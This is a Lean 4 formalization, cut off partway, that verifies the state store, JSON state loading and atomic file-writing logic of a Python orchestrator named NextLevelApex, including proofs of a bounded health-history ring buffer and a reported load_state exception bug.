import Mathlib

/-!
Verification of the NextLevelApex orchestrator core (`nextlevelapex/main2.py`,
`nextlevelapex/core/state.py`, `nextlevelapex/core/registry.py`) against its
natural-language specification.

Python dictionaries with string keys are embedded as association lists
`List (String × α)`; `dict[k] = v` is `dictSet` (replace the value at the first
matching key in place, or append), `dict.get(k)` is `lookupS` (first match).
The state document produced by `json.load` and consumed by pydantic is embedded
by the `Json` inductive.  Stateful procedures become pure functions from an
explicit state value to the next state value.
-/

namespace NLA

/-- First-match lookup, the embedding of Python `d.get(k)` for dicts. -/
def lookupS {α : Type} : List (String × α) → String → Option α
  | [], _ => none
  | e :: rest, k => if e.1 = k then some e.2 else lookupS rest k

/-- The embedding of Python `d[k] = v`: replace the value stored at `k` in
place, or append a fresh entry when `k` is absent (CPython dicts preserve
insertion order and keep the original position on overwrite). -/
def dictSet {α : Type} : List (String × α) → String → α → List (String × α)
  | [], k, v => [(k, v)]
  | e :: rest, k, v => if e.1 = k then (k, v) :: rest else e :: dictSet rest k v

/-- Keys of an embedded dict. -/
def keysOf {α : Type} (l : List (String × α)) : List String :=
  l.map Prod.fst

@[simp] theorem lookupS_nil {α : Type} (k : String) :
    lookupS ([] : List (String × α)) k = none := rfl

theorem lookupS_cons {α : Type} (e : String × α) (rest : List (String × α)) (k : String) :
    lookupS (e :: rest) k = if e.1 = k then some e.2 else lookupS rest k := rfl

theorem lookupS_dictSet_self {α : Type} (l : List (String × α)) (k : String) (v : α) :
    lookupS (dictSet l k v) k = some v := by
  induction l with
  | nil => simp [dictSet, lookupS]
  | cons e rest ih =>
    by_cases he : e.1 = k
    · simp [dictSet, he, lookupS]
    · simp [dictSet, he, lookupS, ih]

theorem lookupS_dictSet_other {α : Type} (l : List (String × α)) (k k' : String) (v : α)
    (h : k' ≠ k) : lookupS (dictSet l k v) k' = lookupS l k' := by
  induction l with
  | nil => simp [dictSet, lookupS, Ne.symm h]
  | cons e rest ih =>
    by_cases he : e.1 = k
    · simp [dictSet, he, lookupS, Ne.symm h, he ▸ Ne.symm h]
    · simp [dictSet, he, lookupS, ih]

theorem lookupS_eq_some_of_mem_nodup {α : Type} (l : List (String × α)) (k : String) (v : α)
    (hmem : (k, v) ∈ l) (hnd : (keysOf l).Nodup) : lookupS l k = some v := by
  induction l with
  | nil => simp at hmem
  | cons e rest ih =>
    simp only [keysOf, List.map_cons, List.nodup_cons] at hnd
    rcases List.mem_cons.mp hmem with h | h
    · simp [lookupS, ← h]
    · have hne : e.1 ≠ k := by
        intro hek
        exact hnd.1 (hek ▸ (List.mem_map.mpr ⟨(k, v), h, rfl⟩))
      simp [lookupS, hne, ih h hnd.2]

/-- Python `history[-n:]`: the last `n` elements of a list (the whole list when
it is shorter than `n`). -/
def lastN {α : Type} (n : Nat) (l : List α) : List α :=
  l.drop (l.length - n)

theorem lastN_length_le {α : Type} (n : Nat) (l : List α) : (lastN n l).length ≤ n := by
  simp only [lastN, List.length_drop]
  omega

theorem lastN_eq_self_of_le {α : Type} (n : Nat) (l : List α) (h : l.length ≤ n) :
    lastN n l = l := by
  unfold lastN
  rw [Nat.sub_eq_zero_of_le h, List.drop_zero]

theorem lastN_length_eq {α : Type} (n : Nat) (l : List α) (h : n ≤ l.length) :
    (lastN n l).length = n := by
  simp only [lastN, List.length_drop]
  omega

/-- Truncating after every append equals truncating once at the end: the key
step for the ring-buffer characterization. -/
theorem lastN_append_lastN {α : Type} (n : Nat) (l tail : List α) :
    lastN n (lastN n l ++ tail) = lastN n (l ++ tail) := by
  rcases Nat.le_total l.length n with h | h
  · rw [lastN_eq_self_of_le n l h]
  · have e1 : (l ++ tail).drop (l.length - n) = lastN n l ++ tail := by
      rw [List.drop_append_eq_append_drop, Nat.sub_eq_zero_of_le (Nat.sub_le l.length n),
        List.drop_zero]
      rfl
    rw [← e1]
    unfold lastN
    rw [List.drop_drop]
    congr 1
    simp only [List.length_drop, List.length_append]
    omega

theorem lastN_append_of_le {α : Type} (n : Nat) (l tail : List α) (h : n ≤ tail.length) :
    lastN n (l ++ tail) = lastN n tail := by
  unfold lastN
  rw [List.drop_append_eq_append_drop]
  have h2 : l.length ≤ (l ++ tail).length - n := by
    simp only [List.length_append]
    omega
  rw [List.drop_eq_nil_of_le h2, List.nil_append]
  congr 1
  simp only [List.length_append]
  omega

theorem lastN_getLast {α : Type} (n : Nat) (l : List α) (hn : 0 < n) (hl : l ≠ []) :
    (lastN n l).getLast? = l.getLast? := by
  have hlen : 0 < l.length := List.length_pos.mpr hl
  have hne : l.drop (l.length - n) ≠ [] := by
    intro h
    have hc := congrArg List.length h
    simp only [List.length_drop, List.length_nil] at hc
    omega
  conv_rhs => rw [← List.take_append_drop (l.length - n) l]
  rw [List.getLast?_append_of_ne_nil _ hne]
  rfl

/-! ## State store: `nextlevelapex/core/state.py`

`STATE_HISTORY_DEPTH`, `update_task_health`, `mark_section_complete` and
`mark_section_failed`, embedded over an explicit engine-state record.  Health
entries are dicts from string keys to string values; the engine only ever
stores stringified values in them (`main2.py` builds
`{"message": str(details_raw)}` or `{"error": str(e)}`). -/

/-- How many historic health results to store (`state.py` line 25). -/
def STATE_HISTORY_DEPTH : Nat := 10

/-- Python `base.update(upd)` on string-keyed dicts. -/
def listDictUpdate (base upd : List (String × String)) : List (String × String) :=
  upd.foldl (fun acc kv => dictSet acc kv.1 kv.2) base

/-- One persisted `task_status` record (`state.py` `TaskStatus`). -/
structure TaskStatusEntry where
  status : String
  last_update : Option String
  last_healthy : Option String
deriving DecidableEq

/-- The slice of the orchestrator state document that the execution engine
mutates: `task_status`, `health_history`, `completed_sections`,
`failed_sections`.  Health entries are embedded dicts. -/
structure EngineState where
  task_status : List (String × TaskStatusEntry)
  health_history : List (String × List (List (String × String)))
  completed_sections : List String
  failed_sections : List String
deriving DecidableEq

/-- Embedding of `state.py` `update_task_health` (lines 180-205): append a
timestamped entry to the task's health history, truncate to the last
`STATE_HISTORY_DEPTH` entries, and replace the task's `task_status` record
(stamping `last_healthy` only on PASS).  The `state is None` early return is
unreachable in the embedded call sites, which always pass the state. -/
def update_task_health (task status : String) (details : Option (List (String × String)))
    (now : String) (st : EngineState) : EngineState :=
  let history := (lookupS st.health_history task).getD []
  let entry := listDictUpdate [("timestamp", now), ("status", status)] (details.getD [])
  let newHist := lastN STATE_HISTORY_DEPTH (history ++ [entry])
  let ts : TaskStatusEntry :=
    { status := status, last_update := some now,
      last_healthy := if status = "PASS" then some now else none }
  { st with health_history := dictSet st.health_history task newHist,
            task_status := dictSet st.task_status task ts }

/-- Embedding of `state.py` `mark_section_complete`: add the section to
`completed_sections` if absent and drop it from `failed_sections`.  The source
round-trips the list through a Python `set`; this embedding keeps insertion
order, which no claim depends on. -/
def mark_section_complete (sec : String) (st : EngineState) : EngineState :=
  { st with
    completed_sections :=
      if st.completed_sections.contains sec then st.completed_sections
      else st.completed_sections ++ [sec],
    failed_sections := st.failed_sections.filter (fun s => s ≠ sec) }

/-- Embedding of `state.py` `mark_section_failed`: dual of
`mark_section_complete`. -/
def mark_section_failed (sec : String) (st : EngineState) : EngineState :=
  { st with
    failed_sections :=
      if st.failed_sections.contains sec then st.failed_sections
      else st.failed_sections ++ [sec],
    completed_sections := st.completed_sections.filter (fun s => s ≠ sec) }

/-- One call to `update_task_health`, as data. -/
structure HealthUpdate where
  task : String
  status : String
  details : Option (List (String × String))
  now : String

/-- A sequence of `update_task_health` calls applied in order. -/
def applyHealthUpdates (st : EngineState) (us : List HealthUpdate) : EngineState :=
  us.foldl (fun s u => update_task_health u.task u.status u.details u.now s) st

/-- The health entry a single call appends. -/
def entryOfUpdate (u : HealthUpdate) : List (String × String) :=
  listDictUpdate [("timestamp", u.now), ("status", u.status)] (u.details.getD [])

/-- The entries a call sequence appends for task `t`, oldest first. -/
def entriesFor (t : String) (us : List HealthUpdate) : List (List (String × String)) :=
  (us.filter (fun u => u.task = t)).map entryOfUpdate

theorem update_task_health_history_self (task status : String)
    (details : Option (List (String × String))) (now : String) (st : EngineState) :
    lookupS (update_task_health task status details now st).health_history task =
      some (lastN STATE_HISTORY_DEPTH
        ((lookupS st.health_history task).getD [] ++
          [listDictUpdate [("timestamp", now), ("status", status)] (details.getD [])])) := by
  unfold update_task_health
  exact lookupS_dictSet_self _ _ _

theorem update_task_health_history_other (task status : String)
    (details : Option (List (String × String))) (now : String) (st : EngineState)
    (t : String) (h : t ≠ task) :
    lookupS (update_task_health task status details now st).health_history t =
      lookupS st.health_history t := by
  unfold update_task_health
  exact lookupS_dictSet_other _ _ _ _ h

/-- Ring-buffer characterization: after any call sequence, a task's stored
history is its original history when the sequence never touched the task, and
otherwise the last `STATE_HISTORY_DEPTH` elements of the original history
extended by all appended entries, oldest first. -/
theorem applyHealthUpdates_history (st : EngineState) (t : String) (us : List HealthUpdate) :
    (lookupS (applyHealthUpdates st us).health_history t).getD [] =
      if entriesFor t us = [] then (lookupS st.health_history t).getD []
      else lastN STATE_HISTORY_DEPTH ((lookupS st.health_history t).getD [] ++ entriesFor t us) := by
  induction us generalizing st with
  | nil => simp [applyHealthUpdates, entriesFor]
  | cons u rest ih =>
    have hstep : applyHealthUpdates st (u :: rest) =
        applyHealthUpdates (update_task_health u.task u.status u.details u.now st) rest := rfl
    by_cases ht : u.task = t
    · subst ht
      rw [hstep, ih]
      have hself := update_task_health_history_self u.task u.status u.details u.now st
      have hent : entriesFor u.task (u :: rest) = entryOfUpdate u :: entriesFor u.task rest := by
        simp [entriesFor, entryOfUpdate]
      rw [hent]
      by_cases hrest : entriesFor u.task rest = []
      · rw [if_pos hrest, if_neg (by simp), hrest, hself]
        simp [entryOfUpdate]
      · rw [if_neg hrest, if_neg (by simp), hself]
        simp only [Option.getD_some]
        rw [lastN_append_lastN]
        simp [entryOfUpdate, List.append_assoc]
    · rw [hstep, ih]
      have hother := update_task_health_history_other u.task u.status u.details u.now st t
        (fun h => ht h.symm)
      have hent : entriesFor t (u :: rest) = entriesFor t rest := by
        simp [entriesFor, ht]
      rw [hent, hother]

/-- C8: for every task name and every sequence of `update_task_health` calls,
the task's health history never exceeds `STATE_HISTORY_DEPTH` (= 10) entries
once it has been updated at all; appending `STATE_HISTORY_DEPTH + 5` entries
leaves exactly `STATE_HISTORY_DEPTH` entries, namely the last
`STATE_HISTORY_DEPTH` appended ones (oldest dropped first) with the most
recently appended entry last. -/
theorem health_history_is_bounded_ring_buffer (st : EngineState) (t : String)
    (us : List HealthUpdate) :
    (entriesFor t us ≠ [] →
      ((lookupS (applyHealthUpdates st us).health_history t).getD []).length ≤
        STATE_HISTORY_DEPTH) ∧
    ((entriesFor t us).length = STATE_HISTORY_DEPTH + 5 →
      (lookupS (applyHealthUpdates st us).health_history t).getD [] =
        lastN STATE_HISTORY_DEPTH (entriesFor t us) ∧
      ((lookupS (applyHealthUpdates st us).health_history t).getD []).length =
        STATE_HISTORY_DEPTH ∧
      ((lookupS (applyHealthUpdates st us).health_history t).getD []).getLast? =
        (entriesFor t us).getLast?) := by
  have hchar := applyHealthUpdates_history st t us
  constructor
  · intro hne
    rw [hchar, if_neg hne]
    exact lastN_length_le _ _
  · intro hlen
    have hne : entriesFor t us ≠ [] := by
      intro h
      rw [h] at hlen
      simp at hlen
    rw [hchar, if_neg hne]
    have hdepth : STATE_HISTORY_DEPTH ≤ (entriesFor t us).length := by
      rw [hlen]
      omega
    have heq : lastN STATE_HISTORY_DEPTH
        ((lookupS st.health_history t).getD [] ++ entriesFor t us) =
        lastN STATE_HISTORY_DEPTH (entriesFor t us) :=
      lastN_append_of_le _ _ _ hdepth
    refine ⟨heq, ?_, ?_⟩
    · rw [heq]
      exact lastN_length_eq _ _ hdepth
    · rw [heq]
      exact lastN_getLast _ _ (by simp [STATE_HISTORY_DEPTH]) hne

/-- Concrete sequence of fifteen `update_task_health` calls for one task. -/
def c8updates : List HealthUpdate :=
  (List.range 15).map (fun i => ⟨"dns_stack", "FAIL", none, toString i⟩)

/-- Witness for C8 at a concrete input: fifteen appends onto an empty state
leave exactly ten entries, the most recent last. -/
theorem health_history_is_bounded_ring_buffer_witness :
    ((lookupS (applyHealthUpdates ⟨[], [], [], []⟩ c8updates).health_history
        "dns_stack").getD []).length = STATE_HISTORY_DEPTH ∧
    ((lookupS (applyHealthUpdates ⟨[], [], [], []⟩ c8updates).health_history
        "dns_stack").getD []).getLast? = (entriesFor "dns_stack" c8updates).getLast? := by
  have h := (health_history_is_bounded_ring_buffer ⟨[], [], [], []⟩ "dns_stack" c8updates).2
    (by decide)
  exact ⟨h.2.1, h.2.2⟩

/-! ## State loading: `state.py` `load_state` (lines 55-78)

`load_state` reads the file, merges the parsed document over `DEFAULT_STATE`
with Python `dict.update`, and validates the merged dict against the pydantic
`StateSchema`; a `ValidationError` resets to the default state.  The embedding
models the parsed JSON document, the exact `dict.update` semantics (including
the `TypeError`/`ValueError` it raises on non-mapping arguments, which
`load_state` does not catch), and pydantic v2 lax validation of each schema
field. -/

/-- A parsed JSON document. -/
inductive Json where
  | null
  | bool (b : Bool)
  | num (n : Int)
  | str (s : String)
  | arr (elems : List Json)
  | obj (fields : List (String × Json))

/-- The Python exception classes that can escape `load_state`. -/
inductive PyError where
  | typeError
  | valueError
deriving DecidableEq

/-- Python `base.update(upd)` over JSON-valued dicts. -/
def pyDictUpdateJson (base upd : List (String × Json)) : List (String × Json) :=
  upd.foldl (fun acc kv => dictSet acc kv.1 kv.2) base

/-- `DEFAULT_STATE` (`state.py` lines 13-23) as a JSON-valued dict. -/
def DEFAULT_STATE : List (String × Json) :=
  [("version", .str "2.0"),
   ("last_run_status", .str "UNKNOWN"),
   ("completed_sections", .arr []),
   ("failed_sections", .arr []),
   ("task_status", .obj []),
   ("file_hashes", .obj []),
   ("health_history", .obj []),
   ("service_versions", .obj []),
   ("last_report_path", .null)]

/-- Pydantic v2 lax validation of a `str` field: only a JSON string is
accepted (numbers and booleans are not coerced to `str`). -/
def validateStr : Json → Option String
  | .str s => some s
  | _ => none

/-- Validation of a `str | None` field. -/
def validateOptStr : Json → Option (Option String)
  | .null => some none
  | .str s => some (some s)
  | _ => none

/-- Validation of an optional `str | None` field that defaults to `None` when
the key is absent. -/
def validateOptStrField (kvs : List (String × Json)) (k : String) : Option (Option String) :=
  match lookupS kvs k with
  | none => some none
  | some j => validateOptStr j

/-- Validation of a `list[str]` field. -/
def validateListStr : Json → Option (List String)
  | .arr es => es.mapM validateStr
  | _ => none

/-- Validation of a `dict[str, α]` field. -/
def validateDictOf {α : Type} (f : Json → Option α) : Json → Option (List (String × α))
  | .obj kvs => kvs.mapM (fun kv => (f kv.2).map (fun v => (kv.1, v)))
  | _ => none

/-- Validation of a `list[α]` field. -/
def validateListOf {α : Type} (f : Json → Option α) : Json → Option (List α)
  | .arr es => es.mapM f
  | _ => none

/-- Pydantic `TaskStatus`: `status` is required, the two timestamps default to
`None`; extra keys are ignored (pydantic default). -/
def validateTaskStatus : Json → Option TaskStatusEntry
  | .obj kvs => do
    let s ← (lookupS kvs "status").bind validateStr
    let lu ← validateOptStrField kvs "last_update"
    let lh ← validateOptStrField kvs "last_healthy"
    some ⟨s, lu, lh⟩
  | _ => none

/-- The dump of a validated pydantic `HealthEntry` (`model_config` allows and
keeps extra keys). -/
structure HealthEntryVal where
  timestamp : String
  status : String
  message : Option String
  error : Option String
  explanation : Option String
  extra : List (String × Json)

/-- The five declared `HealthEntry` fields. -/
def knownHealthKeys : List String :=
  ["timestamp", "status", "message", "error", "explanation"]

/-- Pydantic `HealthEntry`: `timestamp` and `status` are required strings, the
three annotations default to `None`, extra keys are allowed and kept. -/
def validateHealthEntry : Json → Option HealthEntryVal
  | .obj kvs => do
    let ts ← (lookupS kvs "timestamp").bind validateStr
    let s ← (lookupS kvs "status").bind validateStr
    let msg ← validateOptStrField kvs "message"
    let err ← validateOptStrField kvs "error"
    let ex ← validateOptStrField kvs "explanation"
    some ⟨ts, s, msg, err, ex, kvs.filter (fun kv => ¬ knownHealthKeys.contains kv.1)⟩
  | _ => none

/-- The dump of a validated `StateSchema` document. -/
structure StateVal where
  version : String
  last_run_status : String
  completed_sections : List String
  failed_sections : List String
  task_status : List (String × TaskStatusEntry)
  file_hashes : List (String × String)
  health_history : List (String × List HealthEntryVal)
  service_versions : List (String × String)
  last_report_path : Option String

/-- The schema-default state: what `StateSchema()` dumps to, and the content
of `DEFAULT_STATE`. -/
def defaultStateVal : StateVal :=
  ⟨"2.0", "UNKNOWN", [], [], [], [], [], [], none⟩

/-- `StateSchema.model_validate` followed by `model_dump`: each field is
validated when present and replaced by its schema default when absent; any
field failing validation fails the whole document.  Extra top-level keys are
ignored. -/
def StateSchema_validate (merged : List (String × Json)) : Option StateVal := do
  let version ← match lookupS merged "version" with
    | none => some "2.0"
    | some j => validateStr j
  let lrs ← match lookupS merged "last_run_status" with
    | none => some "UNKNOWN"
    | some j => validateStr j
  let cs ← match lookupS merged "completed_sections" with
    | none => some []
    | some j => validateListStr j
  let fs ← match lookupS merged "failed_sections" with
    | none => some []
    | some j => validateListStr j
  let ts ← match lookupS merged "task_status" with
    | none => some []
    | some j => validateDictOf validateTaskStatus j
  let fh ← match lookupS merged "file_hashes" with
    | none => some []
    | some j => validateDictOf validateStr j
  let hh ← match lookupS merged "health_history" with
    | none => some []
    | some j => validateDictOf (validateListOf validateHealthEntry) j
  let sv ← match lookupS merged "service_versions" with
    | none => some []
    | some j => validateDictOf validateStr j
  let lrp ← validateOptStrField merged "last_report_path"
  some ⟨version, lrs, cs, fs, ts, fh, hh, sv, lrp⟩

/-- One element of the sequence form of Python `dict.update(list)`: each
element must be a sequence of exactly two items whose first item is a hashable
key.  A two-item sequence with a hashable non-string key produces an entry the
schema validation would ignore, embedded as `none`. -/
def seqElemToPair : Json → Except PyError (Option (String × Json))
  | .arr [k, v] =>
    match k with
    | .str ks => .ok (some (ks, v))
    | .num _ => .ok none
    | .bool _ => .ok none
    | .null => .ok none
    | .arr _ => .error .typeError
    | .obj _ => .error .typeError
  | .arr _ => .error .valueError
  | .str s =>
    match s.toList with
    | [c1, c2] => .ok (some (String.mk [c1], Json.str (String.mk [c2])))
    | _ => .error .valueError
  | .obj kvs =>
    match kvs with
    | [kv1, kv2] => .ok (some (kv1.1, Json.str kv2.1))
    | _ => .error .valueError
  | .num _ => .error .typeError
  | .bool _ => .error .typeError
  | .null => .error .typeError

/-- The argument semantics of Python `merged.update(data)` for each JSON shape
`data` can take: a mapping merges its pairs; a list converts element-wise (and
raises on malformed elements); a non-empty string raises `ValueError`; numbers,
booleans and `None` raise `TypeError`.  `load_state` does not catch these. -/
def pyUpdateArg : Json → Except PyError (List (String × Json))
  | .obj kvs => .ok kvs
  | .arr es => (es.mapM seqElemToPair).map (fun l => l.filterMap id)
  | .str s => if s.isEmpty then .ok [] else .error .valueError
  | .num _ => .error .typeError
  | .bool _ => .error .typeError
  | .null => .error .typeError

/-- What `load_state` sees: an absent file, an unreadable/unparseable file
(`_safe_json_load` returns the empty dict), or a parsed JSON document. -/
inductive LoadInput where
  | absent
  | unreadable
  | parsed (j : Json)

/-- Validate the merge of the update list over `DEFAULT_STATE`, resetting to
the default state when validation fails (`load_state` lines 70-78). -/
def validatedOrDefault (upd : List (String × Json)) : StateVal :=
  match StateSchema_validate (pyDictUpdateJson DEFAULT_STATE upd) with
  | some s => s
  | none => defaultStateVal

/-- Embedding of `state.py` `load_state` (lines 63-78): absent file returns a
copy of the default; otherwise the document (empty on read/parse failure) is
merged over the default with `dict.update` — whose `TypeError`/`ValueError` on
non-mapping documents propagates to the caller — and the merge is validated,
falling back to the default state on `ValidationError`. -/
def load_state : LoadInput → Except PyError StateVal
  | .absent => .ok defaultStateVal
  | .unreadable => .ok (validatedOrDefault [])
  | .parsed j => (pyUpdateArg j).map validatedOrDefault

/-- C3 (code bug): on a state file whose JSON document is the non-object `5`,
`merged.update(data)` raises an uncaught `TypeError`, so `load_state` raises
instead of returning the default state.  In contrast the absent-file case, a
wrong-typed field (whole-document validation failure resets to the full
default, not a partial merge) and a nested record missing its required
`status` field all return the full schema-default state as the claim says. -/
theorem load_state_raises_on_nonobject_document :
    load_state (.parsed (.num 5)) = .error .typeError ∧
    load_state .absent = .ok defaultStateVal ∧
    load_state (.parsed (.obj [("version", .num 5)])) = .ok defaultStateVal ∧
    load_state (.parsed (.obj [("task_status", .obj [("dns_stack", .obj [])])])) =
      .ok defaultStateVal := by
  refine ⟨rfl, rfl, rfl, rfl⟩

/-! ## Atomic persistence: `state.py` `atomic_write_json_0600` / `save_state`

The write path is embedded as the exact sequence of filesystem operations the
function performs, applied to an explicit filesystem state; a crash or an
exception at any point is modelled by executing only a prefix of the sequence.
The destination file is only ever touched by the single `os.replace` step, so
a prefix either leaves the old content or installs the complete new content.
Note the function performs no fsync of the containing directory (that step
exists only in `core/io.py` `atomic_write_text`, which `save_state` does not
use). -/

/-- One filesystem operation of the write path. -/
inductive WStep where
  | mkstemp
  | writeByte (b : Nat)
  | fsyncTemp
  | chmodTemp (mode : Nat)
  | renameTempToDest
  | fsyncDir
deriving DecidableEq

/-- The operation sequence of `atomic_write_json_0600` (lines 88-98): create
the temp file in the destination directory, write the serialized document,
flush+fsync it, chmod it to 0600, and atomically rename it over the
destination.  There is no `fsyncDir` step. -/
def writeTrace (data : List Nat) : List WStep :=
  WStep.mkstemp :: data.map WStep.writeByte ++
    [WStep.fsyncTemp, WStep.chmodTemp 0o600, WStep.renameTempToDest]

/-- Destination and temp file as the filesystem sees them. -/
structure FsState where
  dest : Option (List Nat)
  destMode : Option Nat
  temp : Option (List Nat)
  tempMode : Option Nat
deriving DecidableEq

/-- Effect of one operation. -/
def applyWStep (fs : FsState) : WStep → FsState
  | .mkstemp => { fs with temp := some [], tempMode := some 0o600 }
  | .writeByte b => { fs with temp := fs.temp.map (fun c => c ++ [b]) }
  | .fsyncTemp => fs
  | .chmodTemp m => { fs with tempMode := fs.temp.map (fun _ => m) }
  | .renameTempToDest =>
    match fs.temp with
    | some c => { dest := some c, destMode := fs.tempMode, temp := none, tempMode := none }
    | none => fs
  | .fsyncDir => fs

/-- Run a list of operations in order. -/
def runWSteps (fs : FsState) (steps : List WStep) : FsState :=
  steps.foldl applyWStep fs

/-- The temp-file cleanup `atomic_write_json_0600` performs in its exception
handler. -/
def cleanupTemp (fs : FsState) : FsState :=
  { fs with temp := none, tempMode := none }

/-- Embedding of `atomic_write_json_0600`: with no failure the whole sequence
runs and the function returns `True`; a failure after `k` operations leaves
the prefix applied, unlinks the temp file, and returns `False`. -/
def atomic_write_json_0600 (fs : FsState) (data : List Nat) (failAfter : Option Nat) :
    FsState × Bool :=
  match failAfter with
  | none => (runWSteps fs (writeTrace data), true)
  | some k => (cleanupTemp (runWSteps fs ((writeTrace data).take k)), false)

/-- Embedding of `save_state` (lines 111-116): dry-run short-circuits before
any filesystem mutation; otherwise it is `atomic_write_json_0600`. -/
def save_state (fs : FsState) (data : List Nat) (dry_run : Bool) (failAfter : Option Nat) :
    FsState × Bool :=
  if dry_run then (fs, true) else atomic_write_json_0600 fs data failAfter

theorem runWSteps_dest_of_no_rename (fs : FsState) (steps : List WStep)
    (h : WStep.renameTempToDest ∉ steps) :
    (runWSteps fs steps).dest = fs.dest ∧ (runWSteps fs steps).destMode = fs.destMode := by
  induction steps generalizing fs with
  | nil => exact ⟨rfl, rfl⟩
  | cons s rest ih =>
    have hs : s ≠ WStep.renameTempToDest := fun he => h (he ▸ List.mem_cons_self s rest)
    have hrest : WStep.renameTempToDest ∉ rest := fun hm => h (List.mem_cons_of_mem s hm)
    have hstep : (applyWStep fs s).dest = fs.dest ∧ (applyWStep fs s).destMode = fs.destMode := by
      cases s with
      | renameTempToDest => exact absurd rfl hs
      | mkstemp => exact ⟨rfl, rfl⟩
      | writeByte b => exact ⟨rfl, rfl⟩
      | fsyncTemp => exact ⟨rfl, rfl⟩
      | chmodTemp m => exact ⟨rfl, rfl⟩
      | fsyncDir => exact ⟨rfl, rfl⟩
    have := ih (applyWStep fs s) hrest
    exact ⟨hstep.1 ▸ this.1, hstep.2 ▸ this.2⟩

theorem runWSteps_writes_build_temp (fs : FsState) (bs : List Nat) (c : List Nat)
    (h : fs.temp = some c) :
    (runWSteps fs (bs.map WStep.writeByte)).temp = some (c ++ bs) ∧
    (runWSteps fs (bs.map WStep.writeByte)).tempMode = fs.tempMode ∧
    (runWSteps fs (bs.map WStep.writeByte)).dest = fs.dest ∧
    (runWSteps fs (bs.map WStep.writeByte)).destMode = fs.destMode := by
  induction bs generalizing fs c with
  | nil =>
    refine ⟨?_, rfl, rfl, rfl⟩
    show fs.temp = some (c ++ [])
    rw [h, List.append_nil]
  | cons b rest ih =>
    have hstep : (applyWStep fs (WStep.writeByte b)).temp = some (c ++ [b]) := by
      simp [applyWStep, h]
    have := ih (applyWStep fs (WStep.writeByte b)) (c ++ [b]) hstep
    simp only [List.map_cons, runWSteps, List.foldl_cons] at *
    refine ⟨?_, this.2.1, this.2.2.1, this.2.2.2⟩
    rw [this.1, List.append_assoc]
    rfl

/-- The full sequence installs the complete new content with mode 0600. -/
theorem runWSteps_full (fs : FsState) (data : List Nat) :
    (runWSteps fs (writeTrace data)).dest = some data ∧
    (runWSteps fs (writeTrace data)).destMode = some 0o600 := by
  unfold writeTrace
  have h1 : runWSteps fs (WStep.mkstemp :: data.map WStep.writeByte ++
      [WStep.fsyncTemp, WStep.chmodTemp 0o600, WStep.renameTempToDest]) =
      runWSteps (runWSteps (applyWStep fs WStep.mkstemp) (data.map WStep.writeByte))
        [WStep.fsyncTemp, WStep.chmodTemp 0o600, WStep.renameTempToDest] := by
    simp [runWSteps, List.foldl_append]
  rw [h1]
  have h2 := runWSteps_writes_build_temp (applyWStep fs WStep.mkstemp) data [] rfl
  set mid := runWSteps (applyWStep fs WStep.mkstemp) (data.map WStep.writeByte) with hmid
  have htemp : mid.temp = some data := by
    rw [h2.1]
    simp
  simp [runWSteps, applyWStep, htemp]

theorem rename_not_mem_front (data : List Nat) :
    WStep.renameTempToDest ∉
      (WStep.mkstemp :: data.map WStep.writeByte ++
        [WStep.fsyncTemp, WStep.chmodTemp 0o600]) := by
  intro h
  rcases List.mem_cons.mp h with h1 | h2
  · exact WStep.noConfusion h1
  rcases List.mem_append.mp h2 with h3 | h4
  · rcases List.mem_map.mp h3 with ⟨b, _, hb⟩
    exact WStep.noConfusion hb
  rcases List.mem_cons.mp h4 with h5 | h6
  · exact WStep.noConfusion h5
  rcases List.mem_cons.mp h6 with h7 | h8
  · exact WStep.noConfusion h7
  · simp at h8

/-- Crashing after any prefix of the write path leaves the destination either
with its old content or with the complete new content. -/
theorem crash_prefix_dest (fs : FsState) (data : List Nat) (k : Nat) :
    (runWSteps fs ((writeTrace data).take k)).dest = fs.dest ∨
    (runWSteps fs ((writeTrace data).take k)).dest = some data := by
  by_cases hk : (writeTrace data).length ≤ k
  · right
    rw [List.take_of_length_le hk]
    exact (runWSteps_full fs data).1
  · left
    push_neg at hk
    have hfront : writeTrace data =
        (WStep.mkstemp :: data.map WStep.writeByte ++
          [WStep.fsyncTemp, WStep.chmodTemp 0o600]) ++ [WStep.renameTempToDest] := by
      simp [writeTrace]
    have hlentrace : (writeTrace data).length = data.length + 4 := by
      simp [writeTrace]
    have hlen : k ≤ (WStep.mkstemp :: data.map WStep.writeByte ++
        [WStep.fsyncTemp, WStep.chmodTemp 0o600]).length := by
      simp only [List.length_cons, List.length_append, List.length_map]
      omega
    have hnomem : WStep.renameTempToDest ∉ (writeTrace data).take k := by
      rw [hfront, List.take_append_of_le_length hlen]
      intro hmem
      exact rename_not_mem_front data (List.mem_of_mem_take hmem)
    exact (runWSteps_dest_of_no_rename fs _ hnomem).1

/-- C5 counterexample: the write path of `atomic_write_json_0600` (hence of
`save_state`) contains no fsync of the containing directory, shown here on the
concrete three-byte document `[1, 2, 3]` whose full operation sequence is
listed explicitly. -/
theorem save_state_sequence_has_no_dir_fsync :
    writeTrace [1, 2, 3] =
      [WStep.mkstemp, WStep.writeByte 1, WStep.writeByte 2, WStep.writeByte 3,
       WStep.fsyncTemp, WStep.chmodTemp 0o600, WStep.renameTempToDest] ∧
    WStep.fsyncDir ∉ writeTrace [1, 2, 3] := by
  refine ⟨rfl, by decide⟩

/-- C5 (amended): `save_state` with `dry_run = false` runs write-temp →
flush+fsync → chmod 0600 → atomic rename, with no directory fsync; a failure
or crash at any point leaves the destination as the old complete content or
the new complete content (never partial), any failure is surfaced as a `False`
return, and a complete run returns `True` having installed the new content
with mode 0600. -/
theorem save_state_crash_leaves_old_or_new (fs : FsState) (data : List Nat)
    (failAfter : Option Nat) (k : Nat) :
    ((save_state fs data false failAfter).1.dest = fs.dest ∨
      (save_state fs data false failAfter).1.dest = some data) ∧
    (save_state fs data false (some k)).2 = false ∧
    (save_state fs data false none).2 = true ∧
    (save_state fs data false none).1.dest = some data ∧
    (save_state fs data false none).1.destMode = some 0o600 := by
  refine ⟨?_, rfl, rfl, (runWSteps_full fs data).1, (runWSteps_full fs data).2⟩
  match failAfter with
  | none => exact Or.inr (runWSteps_full fs data).1
  | some j =>
    show (cleanupTemp _).dest = fs.dest ∨ (cleanupTemp _).dest = some data
    exact crash_prefix_dest fs data j

/-! ## Drift detector

`compute_file_history_hash` is `state.py` lines 119-144.  The cryptographic
digest is a parameter of the embedding: the claims depend only on the digest
being a function of the file content (purity) and on concrete digests
differing where the theorems hypothesize it, never on SHA-256 internals.
`compute_file_hashes` and `check_drift` are imported by `main2.py` from
`core.state` and exercised by the repository's drift tests, but their bodies
are not in the source tree; they are modelled from the specification. -/

/-- What a tracked path resolves to on disk.  `missing` covers nonexistent
paths, non-regular files, and paths whose secure open fails — all of which the
source maps to `None`. -/
inductive FileKind where
